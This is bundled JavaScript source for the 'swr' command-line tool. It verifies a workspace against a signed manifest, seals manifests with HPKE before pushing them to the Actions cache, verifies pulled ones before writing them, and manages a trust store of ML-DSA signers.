const SUITE_NAME = 'HPKE(X-Wing, HKDF-SHA256, AES-256-GCM)';
const INFO = new TextEncoder().encode('swr manifest bundle v1');
const MAX_BUNDLE_BYTES = 96 * 1024 * 1024;
async function suite() {
    const [{ CipherSuite, HkdfSha256, Aes256Gcm }, { XWing }] = await Promise.all([
        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(573)]).then(__nccwpck_require__.bind(__nccwpck_require__, 9573)),
        Promise.all(/* import() */[__nccwpck_require__.e(84), __nccwpck_require__.e(948)]).then(__nccwpck_require__.bind(__nccwpck_require__, 2948))
    ]);
    return new CipherSuite({ kem: new XWing(), kdf: new HkdfSha256(), aead: new Aes256Gcm() });
}
/** A short, non-secret name of the recipient key (to tell "wrong key" from "damaged"). */
async function recipientId(seed) {
    const s = await suite();
    const kp = await s.kem.deriveKeyPair(new Uint8Array(seed).buffer);
    const pub = new Uint8Array(await s.kem.serializePublicKey(kp.publicKey));
    return (0,external_node_crypto_.createHash)('sha256').update('swr-sync-recipient\0').update(pub).digest('hex').slice(0, 16);
}
/** Pack, sealing when `seed` is given (always required when the manifest carries escrow). */
async function packBundle(bundle, seed) {
    if (!seed)
        return Buffer.from(JSON.stringify({ format: SYNC_FORMAT, sealed: false, bundle }));
    const s = await suite();
    const kp = await s.kem.deriveKeyPair(new Uint8Array(seed).buffer);
    const sender = await s.createSenderContext({ recipientPublicKey: kp.publicKey, info: INFO });
    const ct = await sender.seal(new TextEncoder().encode(JSON.stringify(bundle)));
    const env = {
        format: SYNC_FORMAT,
        sealed: true,
        suite: SUITE_NAME,
        enc: Buffer.from(sender.enc).toString('base64'),
        ct: Buffer.from(ct).toString('base64'),
        recipient: await recipientId(seed)
    };
    return Buffer.from(JSON.stringify(env));
}
function sync_refuse(why) {
    return new SwrError(`pulled bundle refused: ${why}`, EXIT.UNREPAIRABLE);
}
function isBundle(v) {
    const b = v;
    return (typeof b === 'object' &&
        b !== null &&
        typeof b.manifest === 'string' &&
        typeof b.trees === 'object' &&
        b.trees !== null &&
        Object.values(b.trees).every(x => typeof x === 'string'));
}
/** Unpack (and open, with `seed`) a bundle; every malformed or unopenable input is a clean refusal. */
async function unpackBundle(bytes, seed) {
    if (bytes.length > MAX_BUNDLE_BYTES)
        throw sync_refuse(`${bytes.length} bytes, over the ${MAX_BUNDLE_BYTES}-byte limit`);
    let env;
    try {
        env = JSON.parse(bytes.toString('utf8'));
    }
    catch {
        throw sync_refuse('not a bundle');
    }
    if (env?.format !== SYNC_FORMAT)
        throw sync_refuse(`unknown format ${String(env?.format)}`);
    if (!env.sealed) {
        if (!isBundle(env.bundle))
            throw sync_refuse('malformed bundle');
        return env.bundle;
    }
    if (!seed)
        throw sync_refuse('it is sealed and no sync key is available (SWR_SYNC_KEY, or "swr keygen" on the machine that pushed)');
    if (env.suite !== SUITE_NAME)
        throw sync_refuse(`unknown suite ${env.suite}`);
    if (env.recipient !== (await recipientId(seed)))
        throw sync_refuse('it is sealed to another sync key');
    let plain;
    try {
        const s = await suite();
        const kp = await s.kem.deriveKeyPair(new Uint8Array(seed).buffer);
        const enc = Buffer.from(env.enc, 'base64');
        const recipient = await s.createRecipientContext({
            recipientKey: kp.privateKey,
            enc: new Uint8Array(enc).buffer,
            info: INFO
        });
        plain = await recipient.open(new Uint8Array(Buffer.from(env.ct, 'base64')).buffer);
    }
    catch {
        throw sync_refuse('it does not open (altered in transit or storage)');
    }
    let bundle;
    try {
        bundle = JSON.parse(new TextDecoder().decode(plain));
    }
    catch {
        throw sync_refuse('malformed bundle');
    }
    if (!isBundle(bundle))
        throw sync_refuse('malformed bundle');
    return bundle;
}
/** The cache key family for one manifest: the newest push wins on pull. */
function syncKeyPrefix(scope) {
    return `swr-manifest-v1-${(0,external_node_crypto_.createHash)('sha256').update(scope).digest('hex').slice(0, 16)}-`;
}

;// CONCATENATED MODULE: ./src/cli/commands/sync.ts
/**
 * `swr push` / `swr pull`: carry the signed manifest (with its tree indexes) through the Actions
 * cache, so a runner or sandbox whose workspace was wiped can recover the recipe book first.
 * Escrow-carrying manifests are sealed (HPKE with X-Wing) before they leave the machine; a pulled
 * manifest is verified through the gate before it is written, and never over an existing file.
 */















/** One fixed folder: the cache version hashes the path, so push and pull must name the same one. */
function syncDir() {
    return external_node_path_default().join(external_node_os_default().tmpdir(), 'swr-sync');
}
function scopeOf(file, io) {
    return io.env.GITHUB_REPOSITORY
        ? `repo:${io.env.GITHUB_REPOSITORY}:${external_node_path_default().basename(external_node_path_default().dirname(file))}/${external_node_path_default().basename(file)}`
        : `file:${external_node_path_default().resolve(file)}`;
}
function sync_client(io) {
    if (!cacheServiceAvailable(io.env)) {
        throw new SwrError('push and pull need the Actions cache service (ACTIONS_RESULTS_URL and ACTIONS_RUNTIME_TOKEN)', EXIT.UNREPAIRABLE);
    }
    return actionsCacheClient({
        env: io.env,
        logToStderr: true,
        onNote: line => void io.stderr.write(`swr: ${line}\n`)
    });
}
async function pushCommand(flags, io) {
    const file = manifestLocation(flags, io).file;
    const m = loadManifest(file, { workspace: flags.workspace, cwd: io.cwd });
    if (m.format !== 3)
        throw new UsageError(`${m.file} is a format-2 manifest: import it first`);
    const trees = {};
    for (const e of m.body.entries) {
        if (e.kind !== 'tree' || !e.expect.index)
            continue;
        const p = indexPath(m.file, e.id);
        if (external_node_fs_default().existsSync(p))
            trees[e.id] = external_node_fs_default().readFileSync(p).toString('base64');
    }
    const seed = loadSyncSeed(stateDir(io), io.env.SWR_SYNC_KEY);
    const escrow = m.body.entries.some(e => e.kind === 'file' && e.escrow);
    if (escrow && !seed) {
        throw new SwrError('this manifest carries escrowed bytes and is never sent in clear: create a sync key with "swr keygen" (or set SWR_SYNC_KEY)', EXIT.UNREPAIRABLE);
    }
    const packed = await packBundle({ manifest: external_node_fs_default().readFileSync(m.file, 'utf8'), trees }, seed);
    const dir = syncDir();
    external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    external_node_fs_default().mkdirSync(dir, { mode: 0o700 });
    writeFileAtomic(external_node_path_default().join(dir, 'bundle.json'), packed, { mode: 0o600 });
    const key = `${syncKeyPrefix(scopeOf(m.file, io))}v${m.body.version}-${m.digest.slice(0, 16)}`;
    try {
        const saved = await sync_client(io).save(dir, key);
        if (saved === 'failed')
            throw new SwrError(`push: the cache did not take ${key}`, EXIT.UNREPAIRABLE);
        const how = seed ? 'sealed with HPKE (X-Wing)' : 'unsealed (no escrowed bytes)';
        if (flags.json)
            io.stdout.write(JSON.stringify({
                schema: 'swr.push/1',
                key,
                digest: m.digest,
                version: m.body.version,
                sealed: Boolean(seed),
                saved
            }) + '\n');
        else
            io.stdout.write(`pushed ${m.file} (version ${m.body.version}, digest ${m.digest.slice(0, 16)}) as ${key}, ${how}${saved === 'exists' ? '; already there' : ''}\n`);
    }
    finally {
        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    }
    return EXIT.HEALTHY;
}
async function pullCommand(flags, io) {
    const target = manifestLocation(flags, io).file;
    if (external_node_fs_default().existsSync(target))
        throw new UsageError(`${target} already exists: pull never overwrites a manifest (pass -m NEW.json)`);
    const dir = syncDir();
    external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    try {
        const prefix = syncKeyPrefix(scopeOf(target, io));
        const hit = await sync_client(io).restore(dir, prefix, [prefix]);
        const file = external_node_path_default().join(dir, 'bundle.json');
        if (!hit || !external_node_fs_default().existsSync(file))
            throw new SwrError(`pull: no pushed manifest in the cache for ${target}`, EXIT.UNREPAIRABLE);
        const bundle = await unpackBundle(external_node_fs_default().readFileSync(file), loadSyncSeed(stateDir(io), io.env.SWR_SYNC_KEY));
        // Verify exactly what will be written, as if it were already in place.
        const parsed = parseManifestText(bundle.manifest, 'pulled manifest');
        if (parsed.format !== 3)
            throw new SwrError('pulled bundle refused: not a format-3 manifest', EXIT.UNREPAIRABLE);
        const m = {
            file: target,
            format: 3,
            doc: parsed.doc,
            body: parsed.doc.body,
            digest: manifestDigest(parsed.doc.body),
            workspace: resolveWorkspace(target, parsed.doc.body.workspace, {
                workspace: flags.workspace,
                cwd: io.cwd
            }),
            lines: parsed.lines,
            notes: parsed.notes
        };
        const gate = await decide(gateInput(m), buildPolicy(m, flags, io));
        if (!gate.allowed)
            throw new SwrError(`pulled manifest refused: ${gate.reason}`, EXIT.UNREPAIRABLE);
        const sidecars = new Map();
        for (const e of m.body.entries) {
            if (e.kind !== 'tree' || !e.expect.index)
                continue;
            const bytes = Buffer.from(bundle.trees[e.id] ?? '', 'base64');
            if ((0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex') !== e.expect.index.sha256) {
                throw new SwrError(`pulled bundle refused: the index of tree "${e.id}" does not match the signed manifest`, EXIT.UNREPAIRABLE);
            }
            sidecars.set(indexPath(target, e.id), bytes);
        }
        external_node_fs_default().mkdirSync(external_node_path_default().dirname(target), { recursive: true });
        for (const [p, bytes] of sidecars) {
            external_node_fs_default().mkdirSync(external_node_path_default().dirname(p), { recursive: true });
            writeFileAtomic(p, bytes);
        }
        writeFileAtomic(target, bundle.manifest, { exclusive: true });
        if (flags.json)
            io.stdout.write(JSON.stringify({
                schema: 'swr.pull/1',
                manifest: target,
                key: hit.matchedKey,
                digest: m.digest,
                version: m.body.version,
                reason: gate.reason
            }) + '\n');
        else
            io.stdout.write(`pulled ${target} (version ${m.body.version}, digest ${m.digest.slice(0, 16)}) from ${hit.matchedKey}; ${gate.reason}\n`);
        return EXIT.HEALTHY;
    }
    finally {
        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    }
}

;// CONCATENATED MODULE: ./src/cli/commands/trust.ts
/** `swr trust add|list|remove|mine`: the local trust store of ML-DSA signers. */







function trustAdd(fp, name, flags, io) {
    const s = addTrusted(stateDir(io), fp, name, new Date());
    if (flags.json)
        io.stdout.write(JSON.stringify({ schema: 'swr.trust/1', added: s }) + '\n');
    else
        io.stdout.write(`trusted ${s.name}: ${groupFingerprint(s.fingerprint)}\n`);
    return EXIT.HEALTHY;
}
function trustList(flags, io) {
    const signers = readTrustStore(stateDir(io));
    if (flags.json)
        io.stdout.write(JSON.stringify({ schema: 'swr.trust/1', signers }, null, 2) + '\n');
    else if (signers.length === 0)
        io.stdout.write('no trusted signers (this machine trusts its own identity implicitly)\n');
    else
        for (const s of signers)
            io.stdout.write(`${s.name.padEnd(20)} ${groupFingerprint(s.fingerprint)}  (added ${s.added})\n`);
    return EXIT.HEALTHY;
}
function trustRemove(what, flags, io) {
    const removed = removeTrusted(stateDir(io), what);
    if (flags.json)
        io.stdout.write(JSON.stringify({ schema: 'swr.trust/1', removed }) + '\n');
    else
        for (const s of removed)
            io.stdout.write(`removed ${s.name}: ${groupFingerprint(s.fingerprint)}\n`);
    return EXIT.HEALTHY;
}
function trustMine(flags, io) {
    let text;
    try {
        text = external_node_fs_default().readFileSync(keyPath(stateDir(io), OWN_PUBLIC_KEY_FILE), 'utf8');
    }
    catch {
        throw new SwrError('this machine has no ML-DSA identity: run "swr keygen"', EXIT.BAD_MANIFEST);
    }
    const [fp = '', pub = ''] = text.split('\n');
    if (flags.json)
        io.stdout.write(JSON.stringify({ schema: 'swr.trust/1', fingerprint: fp, public_key: pub }) + '\n');
    else
        io.stdout.write(`fingerprint: ${groupFingerprint(fp)}\npublic key (base64, ${Buffer.from(pub, 'base64').length} bytes):\n${pub}\n`);
    return EXIT.HEALTHY;
}

;// CONCATENATED MODULE: ./src/cli/main.ts
/**
 * The `swr` command line: argv -> command -> exit code. Every error the user can cause becomes one
 * line on stderr and a documented exit code; only a bug prints more (and asks to be reported).
 */
























const EXIT_HELP = `
Exit codes:
  0  healthy
  1  damaged
  2  unrepairable or refused (repair commands)
  3  still damaged after repair (repair commands)
  4  bad manifest or bad usage
  70 internal error (a bug in swr; please report it)
  74 a write failed (disk full, quota, I/O error): nothing was replaced
  75 another writer interfered (lock lost, manifest changed underneath): nothing was written
  130 interrupted (SIGINT, SIGTERM or SIGHUP)

Manifest: -m FILE, else $SWR_MANIFEST, else the nearest .swr/manifest.json above the current
directory, else ~/.swr/manifest.json. State (cache, keys, canary ledger, survival history):
$SWR_STATE_DIR, else $XDG_STATE_HOME/swr, else ~/.local/state/swr. The history keeps 1,000
records per file before it rotates ($SWR_HISTORY_LIMIT sets another number).`;
function withGlobals(cmd) {
    return cmd
        .option('-m, --manifest <file>', 'manifest file (default: $SWR_MANIFEST or the nearest .swr/manifest.json)')
        .option('--workspace <dir>', 'directory the manifest describes (overrides the manifest)')
        .option('--json', 'print a JSON document on stdout and nothing else')
        .option('-q, --quiet', 'print nothing when healthy')
        .option('--no-color', 'never colour the output (NO_COLOR is honoured too)');
}
function checkOptions(cmd) {
    return withGlobals(cmd)
        .option('--only <id...>', 'check only these entries')
        .option('--deep', 'also compare the full sha256 of blobs')
        .option('--meta', 'sizes, modes, types and tree structure only: no content hashing')
        .option('--no-cache', 'ignore the incremental cache and re-hash everything')
        .option('--jobs <n>', 'hashing threads (default: cores)', intOption('--jobs', 1, 32));
}
function trustOptions(cmd) {
    return cmd
        .addOption(new Option('--require <kinds>', 'signatures that must hold before code runs (default: $SWR_REQUIRE or any)').choices(['any', 'hmac', 'mldsa', 'both']))
        .option('--min-version <n>', 'refuse manifests whose version is below N (rollback floor)', intOption('--min-version', 1, Number.MAX_SAFE_INTEGER))
        .option('--trusted-signer <fp-or-key>', 'trust this ML-DSA fingerprint or public key for this run (repeatable; also $SWR_TRUSTED_SIGNERS)', collect)
        .option('--threshold <n>', 'distinct trusted ML-DSA signers required (default 1)', intOption('--threshold', 1, 16))
        .option('--i-trust-this-manifest <digest>', 'waive the signature requirement for exactly this manifest digest (scope, expiry and floor still apply)');
}
function buildProgram(io, done) {
    const registerCanaryCommands = (program) => {
        const canary = program
            .command('canary')
            .description('measure what this runner, cache or sandbox keeps: plant probes, read them later');
        withGlobals(canary.command('plant'))
            .description('plant probes (exec bits, private modes, links, hard links, empty dirs, long and non-ASCII names, dotfiles, a large file) in the workspace, a deep path, volatile dirs, $HOME, the temp dir and every --at path; never overwrites a file')
            .option('--at <path>', 'also plant in this directory (repeatable; created if missing)', collect)
            .option('--volatile <name>', 'also plant under this workspace directory name (repeatable; created if missing; refused when it is a symlink)', collect)
            .option('--large-bytes <n>', 'size of the large probe (default 67108864; 0 plants none)', intOption('--large-bytes', 0, 16 * 1024 * 1024 * 1024))
            .option('--no-home', 'do not plant in $HOME')
            .option('--no-tmp', 'do not plant in the temp directory')
            .option('--replace', 'discard a planting that was never read (its probes are removed first)')
            .action(async (flags) => done(await canaryPlant(flags, io)));
        withGlobals(canary.command('read'))
            .description('compare every probe with the ledger (intact, altered and how, lost), by class and location; records the result in the history; exit 1 when any probe changed')
            .option('--clean', 'remove the probes and the ledger after reading')
            .action(async (flags) => done(await canaryRead(flags, io)));
        withGlobals(canary.command('clean'))
            .description('remove exactly the planted probes (and the directories the planting created, when empty)')
            .action(async (flags) => done(await canaryClean(flags, io)));
    };
    const program = new Command('swr')
        .description('Snapshot-Wipe Resilience: verify a workspace against a signed manifest and repair exactly what is broken')
        .version(VERSION, '-V, --version')
        .addHelpText('after', EXIT_HELP)
        .showHelpAfterError('(run "swr --help" for usage)')
        .configureOutput({
        writeOut: s => void io.stdout.write(s),
        writeErr: s => void io.stderr.write(s)
    })
        .exitOverride();
    trustOptions(checkOptions(program.command('check')))
        .description('verify every entry (read-only: never runs recipes or smoke commands); exit 1 when damaged')
        .option('--all', 'list healthy entries too')
        .option('--cache-lookup', 'report which entries have a cache saved for their exact state (on a runner; downloads nothing)')
        .option('--record', 'append this check to the survival history (see "swr stats" and "swr why")')
        .option('--run-smoke', "also run the entries' smoke commands (manifest code: only when its signatures allow)")
        .action(async (flags) => {
        done(await checkCommand(flags, io));
    });
    checkOptions(program.command('why'))
        .alias('explain')
        .description('explain each damaged entry: what was found, the likely cause, and the fix')
        .action(async (flags) => {
        done(await whyCommand(flags, io));
    });
    for (const mode of ['restore', 'doctor']) {
        trustOptions(withGlobals(program.command(mode)))
            .description(mode === 'doctor'
            ? 'check, restore the damaged entries in tier and dependency order, re-check everything uncached'
            : 'restore the damaged entries in tier and dependency order and re-verify what ran')
            .option('--only <id...>', 'consider only these entries')
            .option('--dry-run', 'print the plan with the reason for each step and run nothing (exit 1 when damaged)')
            .option('--timeout <s>', "per-recipe timeout in seconds (overrides each entry's timeout_s)", intOption('--timeout', 1, 86400))
            .option('--jobs <n>', 'hashing threads, and recipes run in parallel where the plan allows', intOption('--jobs', 1, 32))
            .option('--quarantine', 'copy each damaged file or tree into the state directory before its recipe runs (copies older than $SWR_QUARANTINE_KEEP_DAYS, default 7, or beyond $SWR_QUARANTINE_MAX_MB in all, default 1024, are pruned)')
            .option('--resume', 'continue an interrupted restore of the same manifest and workspace')
            .option('--record', 'append the first check (what survived, before any repair) to the survival history')
            .option('--no-cache', 'ignore the incremental cache in the first check')
            .option('--lock-timeout <s>', 'give up waiting for another run after S seconds (default 300)', intOption('--lock-timeout', 0, 86400))
            .action(async (flags) => done(await repairCommand(mode, flags, io)));
    }
    withGlobals(program.command('add'))
        .description('track PATH(s): capture size, hash, mode, link target or tree digests from disk now')
        .argument('<path...>', 'files, directories or symlinks inside the workspace')
        .option('--id <id>', 'entry id (default: derived from the path)')
        .addOption(new Option('--kind <kind>', 'entry kind (default: from what is on disk)').choices([...KINDS]))
        .option('--tier <n>', `restore tier ${TIERS[0]}-${TIERS[TIERS.length - 1]} (0 credentials, 1 scripts, 2 source, 3 downloads, 4 builds)`, intOption('--tier', 0, 4))
        .option('--sentinel <relpath>', 'tree: a file that must exist and be non-empty (repeatable)', collect)
        .option('--needs <id>', 'entry that must be healthy before this one is restored (repeatable)', collect)
        .option('--restore <cmd>', 'shell recipe that recreates the entry')
        .option('--timeout <s>', 'recipe timeout in seconds', intOption('--timeout', 1, 86400))
        .option('--smoke <cmd>', 'shell command that proves the entry works')
        .option('--ignore <name-or-glob>', 'tree: leave out of the walk, a .gitignore rule (repeatable)', collect)
        .option('--note <text>', 'why this entry is fragile (shown by "swr why")')
        .option('--min-files <n>', 'tree: fewest files allowed (default: files now)', intOption('--min-files', 0, Number.MAX_SAFE_INTEGER))
        .option('--max-files <n>', 'tree: most files allowed (default: files now)', intOption('--max-files', 0, Number.MAX_SAFE_INTEGER))
        .option('--jobs <n>', 'hashing threads (default: cores)', intOption('--jobs', 1, 32))
        .option('--approve-digest <digest>', 'edit a manifest whose signature does not verify, after reviewing exactly this content')
        .action(async (paths, flags) => {
        done(await withManifestLock(flags, io, () => addCommand(paths, flags, io)));
    });
    withGlobals(program.command('init'))
        .description('scan the workspace and write a first manifest (never overwrites one)')
        .option('--jobs <n>', 'hashing threads (default: cores)', intOption('--jobs', 1, 32))
        .action(async (flags) => {
        done(await withManifestLock(flags, io, () => initCommand(flags, io)));
    });
    withGlobals(program.command('import'))
        .description("convert the original tool's format-2 manifest to format 3 (unsigned until signed)")
        .argument('<old.json>', 'format-2 manifest')
        .option('--legacy-key <file>', "check the old HMAC signature with the original tool's key file; sign the result if it holds")
        .option('--approve-digest <digest>', 'sign the converted manifest, after reviewing exactly this content')
        .action(async (old, flags) => {
        done(await withManifestLock(flags, io, () => importCommand(old, flags, io)));
    });
    withGlobals(program.command('escrow'))
        .description('embed small files in the manifest (checked against their sha256) so they restore without a recipe')
        .option('--only <id...>', 'escrow only these entries')
        .option('--max-bytes <n>', 'largest file to escrow (default 262144)', intOption('--max-bytes', 1, 1024 * 1024))
        .option('--approve-digest <digest>', 'edit a manifest whose signature does not verify, after reviewing exactly this content')
        .option('--lock-timeout <s>', 'give up waiting for another run after S seconds (default 300)', intOption('--lock-timeout', 0, 86400))
        .action(async (flags) => done(await escrowCommand(flags, io)));
    trustOptions(withGlobals(program.command('selftest')))
        .description('run recipes twice in a scratch copy of the workspace and check both runs leave their entry verifying')
        .option('--only <id...>', 'test only these entries')
        .option('--max-tier <n>', 'test recipes of tiers up to N', intOption('--max-tier', 0, 4))
        .option('--timeout <s>', 'per-recipe timeout in seconds', intOption('--timeout', 1, 86400))
        .option('--allow-empty', 'succeed when nothing matches the selection')
        .option('--from-scratch', 'remove each entry from the scratch copy first: the recipe must recreate it')
        .action(async (flags) => done(await selftestCommand(flags, io)));
    trustOptions(withGlobals(program.command('export-recipes')))
        .description('print the restore recipes as one bash script in tier and dependency order (only when signatures allow)')
        .option('--only <id...>', 'export only these entries')
        .action(async (flags) => done(await exportRecipesCommand(flags, io)));
    withGlobals(program.command('push'))
        .description('save the manifest and its tree indexes to the Actions cache (sealed with HPKE/X-Wing when it carries escrow)')
        .action(async (flags) => done(await pushCommand(flags, io)));
    trustOptions(withGlobals(program.command('pull')))
        .description('restore the newest pushed manifest from the Actions cache, verified before it is written (never over an existing file)')
        .action(async (flags) => done(await withManifestLock(flags, io, () => pullCommand(flags, io))));
    withGlobals(program.command('keygen'))
        .description("create this machine's ML-DSA-87 identity and HMAC key in the private state directory (never replaces a key)")
        .option('--no-hmac', 'do not create an HMAC key')
        .option('--no-mldsa', 'do not create an ML-DSA identity')
        .option('--no-sync', 'do not create a sync key (it seals manifests that swr push sends off the machine)')
        .action(async (flags) => done(await keygenCommand(flags, io)));
    trustOptions(withGlobals(program.command('sign')))
        .description('raise the version and sign the manifest with every key this machine holds')
        .option('--approve-digest <digest>', 'sign a manifest whose signature does not verify, after reviewing exactly this content')
        .action(async (flags) => done(await withManifestLock(flags, io, () => signCommand(flags, io))));
    trustOptions(withGlobals(program.command('verify')))
        .description('show each signature (valid, invalid, untrusted signer, absent), the digest, and whether recipes may run; exit 0 allowed, 2 refused')
        .action(async (flags) => done(await verifyCommand(flags, io)));
    withGlobals(program.command('attacktest'))
        .description('attack a signed manifest with generated forgeries against this build; exit 0 when none succeeds')
        .option('--count <n>', 'mutations to try (default 10000)', intOption('--count', 1, 10_000_000), 10_000)
        .option('--seed <text>', 'repeat a run exactly')
        .action(async (flags) => done(await attacktestCommand(flags, io)));
    registerCanaryCommands(program);
    withGlobals(program.command('stats'))
        .description('survival per canary class, location and manifest entry from the history, with 95% Wilson intervals')
        .action((flags) => done(statsCommand(flags, io)));
    const trust = program
        .command('trust')
        .description('manage the ML-DSA signers this machine trusts');
    withGlobals(trust.command('add'))
        .description('trust a signer')
        .argument('<fingerprint>', '64 hex digits (spaces allowed)')
        .argument('<name>', 'a name to show for the signer')
        .action((fp, name, flags) => done(trustAdd(fp, name, flags, io)));
    withGlobals(trust.command('list'))
        .description('list trusted signers')
        .action((flags) => done(trustList(flags, io)));
    withGlobals(trust.command('remove'))
        .description('stop trusting a signer')
        .argument('<fingerprint-or-name>')
        .action((what, flags) => done(trustRemove(what, flags, io)));
    withGlobals(trust.command('mine'))
        .description("print this machine's fingerprint and public key, to share")
        .action((flags) => done(trustMine(flags, io)));
    registerAuthorCommands(program, io, done, withGlobals);
    // Last, so the scripts it prints cover every command registered above.
    program
        .command('completion')
        .description(`print a shell completion script (${SHELLS.join(', ')})`)
        .argument('<shell>', SHELLS.join(' | '))
        .addHelpText('after', '\nInstall: eval "$(swr completion bash)" in ~/.bashrc, the same with zsh in ~/.zshrc,\nor swr completion fish | source in ~/.config/fish/config.fish.')
        .action((shell) => {
        io.stdout.write(completionScript(program, shell));
        done(EXIT.HEALTHY);
    });
    return program;
}
/** Run the CLI; resolves to the exit code (the bin entry exits with it). */
async function main_main(argv, rawIo = processIo()) {
    const io = guardedIo(rawIo, argv.includes('--json'));
    let code;
    const program = buildProgram(io, c => {
        code = c;
    });
    try {
        if (argv.length <= 2) {
            program.outputHelp();
            return EXIT.BAD_MANIFEST;
        }
        await program.parseAsync(argv);
        return code ?? EXIT.HEALTHY;
    }
    catch (err) {
        return reportError(err, io, argv.includes('--json'));
    }
}
/** Longest error line: enough for a file, line, entry, field and reason. */
const ERROR_MAX = 2000;
function reportError(err, io, json) {
    if (err instanceof CommanderError) {
        // Help and version print themselves and exit 0; everything else is bad usage.
        if (err.exitCode === 0)
            return EXIT.HEALTHY;
        return EXIT.BAD_MANIFEST;
    }
    const known = err instanceof SwrError ? err : diskError(err);
    if (known)
        return printError(io, json, known.message, known.exitCode);
    const code = errnoCode(err);
    if (code && err instanceof Error && 'path' in err) {
        // An fs error the user can fix (permissions, a vanished file): one line, no stack.
        const e = err;
        return printError(io, json, `${e.syscall ?? 'access'} ${e.path}: ${code}`, EXIT.BAD_MANIFEST);
    }
    return reportInternal(err, io, json);
}
function printError(io, json, message, code) {
    // Messages quote manifest strings and paths: one line, bounded, whatever they hold.
    const line = escapeText(message, { max: ERROR_MAX });
    if (json)
        io.stdout.write(JSON.stringify({ schema: 'swr.error/1', error: line, exit_code: code }) + '\n');
    io.stderr.write(`swr: ${line}\n`);
    return code;
}
/**
 * A bug: one line, a request to report it, and EXIT.INTERNAL (never 1 or 2, which say something
 * about the workspace). The stack only with SWR_DEBUG set: it is for the report, not the log.
 */
function reportInternal(err, io, json) {
    const e = err instanceof Error ? err : new Error(String(err));
    const what = (e instanceof InternalError ? e.message : `${e.name}: ${e.message}`)
        .replace(/\p{Cc}+/gu, ' ')
        .slice(0, 300);
    printError(io, json, `internal error: ${what}`, EXIT.INTERNAL);
    if (io.env.SWR_DEBUG)
        io.stderr.write(`${e.stack ?? ''}\n`);
    io.stderr.write('swr: this is a bug in swr; please report it with the line above (SWR_DEBUG=1 adds the stack)\n');
    return EXIT.INTERNAL;
}

;// CONCATENATED MODULE: ./src/cli/index.ts
// The `swr` bin. Kept to a few lines: main() does the work and returns the exit code; the exit is
// forced here, after the work is done, so stray handles cannot keep the process alive.


// A closed pipe (`swr check | head`) ends the output, not the program with a stack trace.
for (const stream of [process.stdout, process.stderr]) {
    stream.on('error', (err) => {
        if (err.code === 'EPIPE')
            process.exit(process.exitCode ?? 0);
        throw err;
    });
}
// Whatever escapes every handler is a bug: one line, EXIT.INTERNAL, never a bare stack with 1 or 2.
const crash = (err) => {
    const json = process.argv.includes('--json');
    process.exit(reportInternal(err, { env: process.env, stdout: process.stdout, stderr: process.stderr }, json));
};
process.on('uncaughtException', crash);
process.on('unhandledRejection', crash);
main_main(process.argv).then(code => {
    process.exitCode = code;
}, err => {
    process.exitCode = EXIT.INTERNAL;
    crash(err);
});

